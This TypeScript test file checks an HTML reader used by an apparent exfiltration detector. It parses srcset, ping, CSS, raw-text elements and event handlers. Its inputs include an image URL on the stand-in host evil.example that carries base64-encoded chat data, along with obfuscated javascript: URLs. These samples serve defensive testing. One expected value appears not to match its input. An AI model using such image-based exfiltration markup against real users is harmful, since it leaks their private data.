// The HTML reader: which URLs a tag loads or links to, which elements are active, and where each sits.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { readHtml } from './html.js';
import { detectExfiltration } from './index.js';

const read = (html: string) => readHtml(html, [[0, html.length]]);
const urls = (html: string) => read(html).urls.map((u) => [u.url, u.load]);
const active = (html: string) => read(html).active.map((a) => a.kind);

describe('HTML reader: srcset', () => {
  it('splits candidates on a comma after a URL even without a space (the HTML standard)', () => {
    assert.deepEqual(urls('<img srcset="a.png 1x,https://evil.example/p.png 2x">'), [
      ['a.png', true],
      ['https://evil.example/p.png', true],
    ]);
    assert.deepEqual(
      detectExfiltration('<img src="a.png" srcset="a.png 1x,https://evil.example/p.png 2x">').map(
        (f) => f.kind,
      ),
      ['off-list-image'],
      'the off-list candidate is judged as an image',
    );
    assert.deepEqual(
      detectExfiltration(
        '<img src="a.png" srcset="a.png 1x,//evil.example/p.png?d=c2VjcmV0IGRhdGEgZnJvbSB0aGUgY2hhdA 2x">',
        {
          images: 'data',
        },
      ).map((f) => f.kind),
      ['image-exfiltration'],
    );
  });

  it('keeps commas inside a URL, cuts trailing ones, and skips descriptors up to the next comma', () => {
    assert.deepEqual(
      urls('<img srcset=" a.png,, https://e.net/p?x=1,2 100w, b.png 1.5x , c.png">').map(([u]) => u),
      ['a.png', 'https://e.net/p?x=1,2', 'b.png', 'c.png'],
    );
    // A comma inside a parenthesised descriptor does not start a candidate.
    assert.deepEqual(
      urls('<img srcset="a.png (x, y) 1x,b.png">').map(([u]) => u),
      ['a.png', 'b.png'],
    );
    assert.deepEqual(
      urls('<link rel="preload" as="image" imagesrcset="a.png 1x,https://e.net/i.png 2x">').map(([u]) => u),
      ['a.png', 'https://e.net/i.png'],
    );
    assert.deepEqual(urls('<img srcset="\t, ,\n">'), [], 'only separators: no candidate');
  });

  it('ping and archive are space-separated URL lists', () => {
    assert.deepEqual(urls('<a href="/x" ping="https://a.example/p,  https://b.example/q">x</a>'), [
      ['/x', false],
      ['https://a.example/p', true],
      ['https://b.example/q', true],
    ]);
    assert.deepEqual(urls('<object archive="a.jar b.jar">'), [
      ['a.jar', false],
      ['b.jar', false],
    ]);
  });
});

describe('HTML reader: loads and links', () => {
  it('tells attributes a browser fetches on load from those fetched on a click', () => {
    assert.deepEqual(urls('<img src="https://e.net/i.png">'), [['https://e.net/i.png', true]]);
    assert.deepEqual(urls('<video poster="p.png">'), [['p.png', true]]);
    assert.deepEqual(urls('<table background="b.png">'), [['b.png', true]]);
    assert.deepEqual(urls('<html manifest="m.appcache">'), [['m.appcache', true]]);
    assert.deepEqual(urls('<a href="https://e.net/">x</a>'), [['https://e.net/', false]]);
    assert.deepEqual(urls('<blockquote cite="https://e.net/c">'), [['https://e.net/c', false]]);
    assert.deepEqual(urls('<button formaction="https://e.net/f">'), [['https://e.net/f', false]]);
    assert.deepEqual(urls('<div title="https://e.net/">'), [], 'a plain attribute is no URL');
  });

  it('an href loads on link, image, use and feimage elements, also as xlink:href', () => {
    assert.deepEqual(urls('<link rel="stylesheet" href="https://e.net/s.css">'), [
      ['https://e.net/s.css', true],
    ]);
    assert.deepEqual(urls('<svg><image xlink:href="https://e.net/i.png"/></svg>'), [
      ['https://e.net/i.png', true],
    ]);
    assert.deepEqual(urls('<svg><use href="https://e.net/u.svg#a"/></svg>'), [
      ['https://e.net/u.svg#a', true],
    ]);
  });

  it('a script URL in any attribute is a link; other attribute values are not URLs', () => {
    assert.deepEqual(urls('<x-a data-go=" javascript:alert(1)">'), [[' javascript:alert(1)', false]]);
    // A browser drops tabs and newlines from a URL (an entity-encoded tab too), so they cannot hide the scheme.
    assert.deepEqual(urls('<x-a data-go="java\tscript:alert(1)">'), [['java\tscript:alert(1)', false]]);
    assert.deepEqual(urls('<x-a data-go="vbs\ncr\ript:x">'), [['vbs\ncr\nipt:x', false]]);
    assert.deepEqual(urls('<x-a data-go="jav&#x09;ascript:x">'), [['jav\tascript:x', false]]);
    assert.deepEqual(urls('<x-a data-go="javascript-free text">'), []);
    assert.deepEqual(urls('<x-a data-go="see javascript:x">'), [], 'the scheme must open the value');
    assert.deepEqual(urls('<x-a data-go="data:text/html,x">'), [['data:text/html,x', false]]);
    assert.deepEqual(urls('<x-a data-go="javascript :x">'), [['javascript :x', false]]);
  });

  it('reads CSS in a style attribute and a style element (with @import only in the element)', () => {
    assert.deepEqual(urls('<p style="background:url(https://e.net/b.png)">'), [
      ['https://e.net/b.png', true],
    ]);
    assert.deepEqual(urls('<p style="@import \'https://e.net/s.css\'">'), []);
    const sheet = '<style>@import "https://e.net/s.css"; p { background: url(/b.png) }</style>';
    // A style element is raw text, so the piece is read twice (as a browser does and flat): each URL twice.
    assert.deepEqual(urls(sheet), [
      ['/b.png', true],
      ['https://e.net/s.css', true],
      ['/b.png', true],
      ['https://e.net/s.css', true],
    ]);
    const r = read(sheet);
    assert.ok(
      r.urls.every((u) => u.start === 0 && u.end === sheet.length),
      'a style sheet URL spans the whole element',
    );
    assert.deepEqual(r.active, [], 'a closed style element is not active');
  });
});

describe('HTML reader: active content', () => {
  it('flags active elements, http-equiv meta and non-empty event handlers', () => {
    for (const tag of ['object', 'embed', 'form', 'base', 'frameset', 'portal', 'applet', 'fencedframe'])
      assert.deepEqual(active(`<${tag}>`), [`html-${tag}`], tag);
    // An iframe is a raw-text element: read as a browser reads it and flat, so found by both readings.
    assert.deepEqual(active('<iframe>'), ['html-iframe', 'html-iframe']);
    assert.deepEqual(active('<meta http-equiv="refresh" content="0;url=https://e.net/">'), ['html-meta']);
    assert.deepEqual(active('<meta name="viewport" content="x">'), []);
    assert.deepEqual(active('<b onclick="go()">x</b>'), ['html-event-handler']);
    assert.deepEqual(active('<b onclick="  ">x</b>'), [], 'an empty handler runs nothing');
    assert.deepEqual(active('<b on="x" onab="y">x</b>'), [], 'on, onab are no handler names');
    assert.deepEqual(active('<div>plain</div>'), []);
  });

  it('a script element spans from its opening tag to its end tag, or its opening tag when left open', () => {
    const closed = 'a <script>go()</script> b';
    assert.deepEqual(
      read(closed).active.map((a) => [a.kind, closed.slice(a.start, a.end)]),
      [
        ['html-script', '<script>go()</script>'],
        ['html-script', '<script>go()</script>'],
      ],
      'found by both readings',
    );
    const open = 'a <script src="https://e.net/s.js">go()';
    assert.deepEqual(
      read(open).active.map((a) => [a.kind, open.slice(a.start, a.end)]),
      [
        ['html-script', '<script src="https://e.net/s.js">'],
        ['html-script', '<script src="https://e.net/s.js">'],
      ],
    );
  });

  it('a style element left open is active over its opening tag', () => {
    const text = 'x <style>p { color: red }';
    assert.deepEqual(
      read(text).active.map((a) => [a.kind, text.slice(a.start, a.end)]),
      [
        ['html-style', '<style>'],
        ['html-style', '<style>'],
      ],
    );
  });

  it('text inside raw-text elements is not read as tags by the browser reading, but is by the flat one', () => {
    // Inside <textarea> a browser shows the tag as text; the flat reading still finds it (foreign content).
    const text = '<textarea><img src="https://e.net/i.png"></textarea>';
    assert.deepEqual(urls(text), [['https://e.net/i.png', true]]);
    assert.equal(read('<title><iframe></title>').active.filter((a) => a.kind === 'html-iframe').length, 1);
    // A self-closing raw-text start tag does not swallow what follows.
    assert.deepEqual(active('<title/><iframe>'), ['html-iframe', 'html-iframe']);
  });

  it('a tag cut off by the end of the text is judged on what it has', () => {
    const text = 'see <img src="https://e.net/i.png" onerror="go()';
    const r = read(text);
    assert.deepEqual(
      r.urls.map((u) => [u.url, u.load, text.slice(u.start, u.end)]),
      [['https://e.net/i.png', true, text.slice(4)]],
    );
    assert.deepEqual(
      r.active.map((a) => a.kind),
      ['html-event-handler'],
    );
    assert.deepEqual(urls("<img src='https://e.net/a.png"), [['https://e.net/a.png', true]]);
    assert.deepEqual(urls('<img src=https://e.net/b.png'), [['https://e.net/b.png', true]]);
    assert.deepEqual(urls('<IMG SRC=x.png alt'), [['x.png', true]], 'names are case-folded');
    assert.deepEqual(read('< img src=x.png').urls, [], 'no tag without a name');
  });
});

describe('HTML reader: segments and offsets', () => {
  it('reads only the given stretches, with offsets in the whole text', () => {
    const text = 'plain <img src="a.png"> middle <embed src="b.html">';
    const second = text.indexOf('<embed');
    const r = readHtml(text, [[second, text.length]]);
    assert.deepEqual(
      r.urls.map((u) => [u.url, text.slice(u.start, u.end)]),
      [['b.html', '<embed src="b.html">']],
    );
    assert.deepEqual(
      r.active.map((a) => [a.kind, a.start, a.end]),
      [['html-embed', second, text.length]],
    );
    assert.deepEqual(readHtml('no tags at all < here', [[0, 21]]), { urls: [], active: [] });
  });

  it('reads a raw-text piece twice, so a tag hidden in foreign content is found once per reading', () => {
    const text = '<svg><style><img src="https://e.net/i.png"></style></svg>';
    const r = read(text);
    assert.deepEqual(
      r.urls.map((u) => u.url),
      ['https://e.net/i.png'],
      'the browser reading keeps the style as text; the flat reading finds the img',
    );
  });
});

describe('HTML reader: every listed element and attribute', () => {
  it('reads each load and click attribute, and each element whose href loads', () => {
    assert.deepEqual(urls('<img lowsrc=a dynsrc=b>'), [
      ['a', true],
      ['b', true],
    ]);
    assert.deepEqual(urls('<object data=x.swf>'), [['x.swf', true]]);
    assert.deepEqual(urls('<img longdesc=d>'), [['d', false]]);
    assert.deepEqual(urls('<applet codebase=c>'), [['c', false]]);
    assert.deepEqual(urls('<svg><feImage href=f /></svg>'), [['f', true]]);
    assert.deepEqual(urls('<a href=h>x</a>'), [['h', false]]);
    assert.deepEqual(active('<frame src=a>'), ['html-frame']);
  });

  it('each raw-text element hides tags from the browser reading only (found once, by the flat one)', () => {
    for (const tag of ['xmp', 'noembed', 'noframes', 'noscript', 'title', 'textarea', 'style'])
      assert.deepEqual(urls(`<${tag}><img src=a></${tag}>`), [['a', true]], tag);
    assert.deepEqual(urls('<plaintext><img src=a>'), [['a', true]]);
    // Not a raw-text element: one reading, one URL.
    assert.deepEqual(urls('<xmpx><img src=a>'), [['a', true]]);
    assert.deepEqual(urls('<div><img src=a></div>'), [['a', true]]);
  });

  it('a raw-text element ends at its own end tag: what follows is read by both readings', () => {
    assert.deepEqual(urls('<textarea><img src=a></textarea><img src=b>'), [
      ['b', true],
      ['a', true],
      ['b', true],
    ]);
    assert.deepEqual(
      urls('<title></textarea><img src=a></title>'),
      [['a', true]],
      'another end tag does not',
    );
  });

  it('a second style start tag inside a style sheet is its text', () => {
    assert.deepEqual(urls('<style><style>p{background:url(x)}</style>'), [
      ['x', true],
      ['x', true],
    ]);
  });

  it('comments and doctypes hide nothing and show nothing', () => {
    assert.deepEqual(urls('<!-- <img src=a> -->'), []);
    assert.deepEqual(urls('<!doctype html><img src=a>'), [['a', true]]);
    assert.deepEqual(urls('a\u0000<img src=b>'), [['b', true]]);
  });

  it('a cut-off tag: an event handler needs a name of three letters after on', () => {
    assert.deepEqual(active('<img onerror=x'), ['html-event-handler']);
    assert.deepEqual(active('<img on=x'), []);
    assert.deepEqual(active('<img onab=x'), []);
    assert.deepEqual(urls('<img src="a" x'), [['a', true]]);
    assert.deepEqual(read('<img'), { urls: [], active: [] });
  });
});
